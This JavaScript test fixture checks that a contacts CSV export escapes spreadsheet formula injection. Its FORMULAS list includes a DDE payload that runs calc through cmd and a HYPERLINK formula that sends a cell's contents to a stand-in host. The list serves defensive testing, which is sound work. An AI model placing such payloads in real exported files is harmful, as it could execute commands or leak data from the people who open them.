import { parse } from 'csv-parse/sync';

/** Texts that a spreadsheet would calculate, unless an apostrophe stands in front. */
export const FORMULAS = [
	'+1-415-555-0100',
	'+1 (555) 010-0100',
	'+49 30/1234567',
	'=HYPERLINK("http://example.test/?x="&A1,"Pay")',
	"+1+cmd|' /C calc'!A0",
	'+cmd|x',
	'-2+3',
	'@SUM(1)',
	'\t\t',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	' =1+1',
	'\0=1+1',
	'＝1+1',
	"'=1+1",
	"''+A1",
];

/** Texts that are a number, also of a phone, or none of which anything could be calculated. */
export const NUMBERS = [
	...['+971501234567', '+351 912 345 678', '+1 (234) 567', '+49.30.123', '-5', '-5.00', '+1,5'],
	...['-', ' +1', "'+1"],
];

/** Texts that are none, though some need quotes in the file. */
const OTHER_TEXTS = [
	...NUMBERS,
	"O'Neill",
	"'Quoted'",
	'a=b',
	'a;=1+1',
	'Ruiz, "Ana"\nand Co',
	'first\rsecond',
	'first\r\nsecond',
	'01234',
	'null',
	' ',
	'',
];

/** The columns of the examples that export contacts: the documented fields of one. */
export const CONTACT_COLUMNS = [
	...['id', 'created', 'first_name', 'last_name', 'business_name', 'job_title', 'province'],
	...['city', 'street', 'zip_code', 'email', 'phone_number', 'country'],
];

/**
 * @param {Buffer | string} file
 * @param {import('csv-parse/sync').Options} [options]
 * @returns {any[]} its rows as a spreadsheet reads them: a carriage return ends one, too, unless it is quoted
 */
export const rowsOfCsv = (file, options) =>
	parse(file, { bom: true, record_delimiter: ['\r\n', '\n', '\r'], ...options });

/**
 * @param {unknown} value
 * @returns {string} the cell that it has to become
 */
export const cellOf = (value) =>
	FORMULAS.includes(String(value)) ? `'${value}` : String(value ?? '');

/**
 * @param {object} contact
 * @returns {unknown[]} what it has in each column
 */
export const valuesOf = (contact) =>
	CONTACT_COLUMNS.map((name) => /** @type {Record<string, unknown>} */ (contact)[name]);

/** Contacts are given all of these texts, and the newest ones lack some fields or have one more. @param {object[]} contacts */
export function makeOdd(contacts) {
	for (const [index, text] of [...FORMULAS, ...OTHER_TEXTS].entries())
		Object.assign(contacts[index] ?? {}, {
			last_name: text,
			phone_number: text,
			[index % 2 ? 'street' : 'zip_code']: text,
		});
	const [first = {}, second = {}] = /** @type {Record<string, unknown>[]} */ (contacts);
	delete first['business_name'];
	delete first['province'];
	first['newsletter'] = true;
	Object.assign(second, { business_name: null, city: null });
}
